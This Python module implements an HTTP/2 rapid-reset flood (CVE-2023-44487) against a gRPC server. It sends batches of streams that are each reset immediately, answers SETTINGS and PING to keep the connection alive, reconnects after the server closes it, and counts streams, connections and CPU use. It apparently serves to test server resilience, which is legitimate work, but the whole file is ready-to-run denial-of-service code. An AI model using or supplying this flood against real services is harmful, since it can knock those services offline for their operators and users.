"""An HTTP/2 rapid-reset flood on one connection (CVE-2023-44487): HEADERS + DATA + RST_STREAM, stream after stream.

Raw frames from the h2 library: a gRPC client library would never send them this fast. The flood reads and
answers what the server sends (SETTINGS, PING), so the connection stays up as long as the server allows.
"""

from __future__ import annotations

import os
import socket
import struct
import threading
import time
from multiprocessing.queues import Queue

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions


def grpc_frame(message: bytes) -> bytes:
    """One gRPC length-prefixed message: not compressed, 4-byte big-endian length."""
    return struct.pack(">?I", False, len(message)) + message


class Flood:
    """Streams of `path` with `body`, each reset right after it is sent, until stop() or `seconds` pass."""

    def __init__(self, host: str, port: int, path: str, body: bytes, seconds: float, batch: int = 64,
                 source: str | None = None) -> None:
        self.host, self.port, self.path, self.body, self.seconds, self.batch = host, port, path, body, seconds, batch
        self.source = None if source is None else (source, 0)  # the address the flood comes from
        self.sent, self.connections, self.goaways = 0, 0, 0
        self.stopping = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)

    def start(self) -> Flood:
        self.thread.start()
        return self

    def stop(self) -> None:
        self.stopping.set()
        self.thread.join(30)

    def _run(self) -> None:
        end = time.monotonic() + self.seconds
        while not self.stopping.is_set() and time.monotonic() < end:
            try:
                self._connection(end)
            except (OSError, h2.exceptions.ProtocolError):
                time.sleep(0.05)  # closed by the server (GOAWAY, reset): connect again, as an attacker would

    def _connection(self, end: float) -> None:
        with socket.create_connection((self.host, self.port), timeout=5, source_address=self.source) as sock:
            self.connections += 1
            conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
            conn.initiate_connection()
            sock.sendall(conn.data_to_send())
            sock.setblocking(False)
            headers = [(":method", "POST"), (":scheme", "http"), (":path", self.path), (":authority", self.host),
                       ("content-type", "application/grpc"), ("te", "trailers")]
            while not self.stopping.is_set() and time.monotonic() < end:
                for _ in range(self.batch):
                    sid = conn.get_next_available_stream_id()
                    conn.send_headers(sid, headers)
                    conn.send_data(sid, self.body)
                    conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
                    self.sent += 1
                sock.setblocking(True)
                sock.sendall(conn.data_to_send())
                sock.setblocking(False)
                try:
                    while data := sock.recv(1 << 16):
                        for event in conn.receive_data(data):
                            if isinstance(event, h2.events.ConnectionTerminated):
                                self.goaways += 1
                                return
                except BlockingIOError:
                    pass
                else:
                    return  # recv returned b"": the server closed the connection
                sock.setblocking(True)
                sock.sendall(conn.data_to_send())  # SETTINGS and PING acknowledgements
                sock.setblocking(False)


def flood_process(host: str, port: int, path: str, body: bytes, seconds: float, source: str | None,
                  results: Queue) -> None:
    """A Flood in a process of its own, as an attacker is another program: puts what it sent and the CPU it used."""
    t0, flood = time.monotonic(), Flood(host, port, path, body, seconds, source=source).start()
    flood.thread.join()
    cpu = os.times()
    results.put({"sent": flood.sent, "seconds": time.monotonic() - t0, "connections": flood.connections,
                 "goaways": flood.goaways, "cpu_s": cpu.user + cpu.system})
